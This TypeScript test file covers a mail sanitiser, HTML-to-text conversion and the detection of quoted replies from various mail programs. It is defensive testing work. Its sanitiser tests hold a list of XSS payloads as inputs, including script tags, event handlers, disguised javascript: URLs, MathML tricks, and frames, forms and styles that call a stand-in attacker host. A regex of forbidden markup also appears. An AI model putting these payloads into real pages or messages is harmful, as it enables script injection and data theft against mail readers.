// HTML from strangers is harmless once read, and says where its quotations are.
import { markedTextOf, sanitised, textOf } from "../../mail/read/html";
import { newTextOf } from "../../mail/new-text/new-text";

describe("sanitised", () => {
  test.each([
    ["a script", "<script>steal()</script>"],
    ["a handler", '<p onclick="steal()">x</p>'],
    ["an address that runs", '<a href="javascript:steal()">x</a>'],
    ["an address that runs, disguised", '<a href=" java&#10;script:steal()">x</a>'],
    ["a frame", '<iframe src="https://evil.example/"></iframe>'],
    ["a form", '<form action="https://evil.example/steal"><input name="p"></form>'],
    ["a style", "<style>body{background:url(https://evil.example/steal)}</style>"],
    ["a style on an element", '<p style="background:url(https://evil.example/steal)">x</p>'],
    ["an SVG", '<svg><script>steal()</script><image href="https://evil.example/steal"/></svg>'],
    ["an object", '<object data="https://evil.example/steal"></object>'],
    ["a redirect", '<meta http-equiv="refresh" content="0;url=https://evil.example/steal">'],
    ["raw text that hides markup", "<xmp><img src=x onerror=steal()></xmp>"],
    ["broken markup", '<img src="x` `<script>steal()</script>"` `>'],
    ["MathML", "<math><mtext><style><img src onerror=steal()></style></mtext></math>"],
    ["data that is HTML", '<img src="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">'],
  ])("%s does nothing", (_, html) => {
    expect(sanitised(html)).not.toMatch(/<script|<style|<iframe|<form|<input|<object|<meta|<svg|<math|\son\w+\s*=|javascript:|url\(|text\/html/i);
  });

  test("a remote image is held back: nothing is fetched when the ticket is opened", () => {
    const html = sanitised('<img src="https://tracker.example/1.gif" alt="logo" srcset="https://tracker.example/2.gif 2x"><img src="//tracker.example/3.gif">');
    expect(html).toContain('data-held-src="https://tracker.example/1.gif"');
    expect(html).not.toMatch(/ src=|srcset|3\.gif/);
  });

  test("a sender can't fake what we held back", () => {
    expect(sanitised('<img data-held-src="javascript:steal()">')).not.toContain("steal");
  });

  test("an inline image keeps its name", () => {
    expect(sanitised('<img src="cid:i@x">')).toContain('src="cid:i@x"');
  });

  test("links open elsewhere and say nothing of us", () => {
    expect(sanitised('<a href="https://example.com/">x</a>')).toBe('<a href="https://example.com/" rel="noopener noreferrer nofollow" target="_blank">x</a>');
  });
});

describe("text of HTML", () => {
  test.each([
    ["paragraphs", "<p>one</p><p>two</p>", "one\n\ntwo"],
    ["a list", "<ul><li>one</li><li>two</li></ul>", " * one\n * two"],
    ["a link", '<a href="https://example.com/a">here</a>', "here [https://example.com/a]"],
    ["a link that names itself", '<a href="https://example.com/a">https://example.com/a</a>', "https://example.com/a"],
    ["a quotation", "<blockquote>one</blockquote>", "> one"],
    ["a table for layout", "<table><tr><td>one</td></tr></table>", "one"],
    ["a table of figures", "<table><tr><th>Item</th><th>Price</th></tr>\n<tr><td>Lamp</td>\n<td><b>3</b> €</td></tr></table>", "Item\tPrice\nLamp\t3 €"],
    ["a table for layout with blocks side by side", "<table><tr><td><p>one</p><p>two</p></td><td><div>three</div></td></tr></table>", "one\n\ntwo\n\nthree"],
    ["a heading as it is written", "<h1>One</h1>two", "One\n\ntwo"],
    ["no styles and scripts", "<style>a{}</style><script>b</script>one", "one"],
    ["entities", "5 &lt; 6 &amp; 7&nbsp;&euro;", "5 < 6 & 7 €"],
  ])("%s", (_, html, text) => {
    expect(textOf(html).replaceAll("\u00a0", " ").trim()).toBe(text.trim());
  });
});

describe("what a mail program marks as quoted isn't new", () => {
  const cases: readonly (readonly [string, string])[] = [
    ["Gmail", '<div dir="ltr">It has.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">Zulu 3 Mar 2026 zzz:<br></div><blockquote class="gmail_quote">Has it arrived?</blockquote></div>'],
    ["Gmail with a signature", '<div>It has.</div><div class="gmail_signature">Ada<br>Engines</div><div class="gmail_quote"><div class="gmail_attr">zzz<br></div><blockquote>Has it?</blockquote></div>'],
    ["Thunderbird", '<p>It has.</p><div class="moz-cite-prefix">zzz:<br></div><blockquote type="cite">Has it arrived?</blockquote><div class="moz-signature">Ada</div>'],
    ["Outlook on the web", '<div>It has.</div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>Zzz:</b> Support</div><div>Has it arrived?</div>'],
    ["Outlook for telephones", '<div>It has.</div><div id="ms-outlook-mobile-signature">Get the app</div><div id="mail-editor-reference-message-container"><div>Has it arrived?</div></div>'],
    ["Yahoo", '<div>It has.</div><div id="ydp123yahoo_quoted_9" class="yahoo_quoted"><div>zzz:</div><div>Has it arrived?</div></div>'],
    ["Apple Mail", '<div>It has.</div><br><blockquote type="cite"><div>Am 3. März 2026 um 09:14 schrieb Support &lt;s@desk.example&gt;:</div></blockquote><blockquote type="cite">Has it arrived?</blockquote>'],
    ["Proton", '<div>It has.</div><div class="protonmail_signature_block">Ada</div><div class="protonmail_quote">On Tuesday, March 3rd, 2026 at 9:14 AM, Support &lt;s@desk.example&gt; wrote:<br><blockquote class="protonmail_quote" type="cite">Has it arrived?</blockquote></div>'],
    ["NetEase", '<div>It has.</div><div id="isReplyContent">zzz<pre>Has it arrived?</pre></div>'],
  ];
  test.each(cases)("%s", (_, html) => {
    expect(newTextOf(markedTextOf(html) ?? "no cue")).toBe("It has.");
  });

  test("answers between quotations are kept", () => {
    const html = '<div class="moz-cite-prefix">zzz:</div><blockquote type="cite">Has it arrived?</blockquote><p>Yes.</p><blockquote type="cite">Is it whole?</blockquote><p>No.</p>';
    expect(newTextOf(markedTextOf(html) ?? "")).toBe("> Has it arrived?\n\nYes.\n\n> Is it whole?\n\nNo.");
  });

  test("what stands behind a marked quotation is kept", () => {
    expect(newTextOf(markedTextOf('<div>One.</div><div class="yahoo_quoted">old</div><div>Two.</div>') ?? "")).toBe("One.\nTwo.");
  });

  test("HTML without such marks says nothing of quotations", () => {
    expect(markedTextOf("<p>It has.</p>")).toBeNull();
  });
});
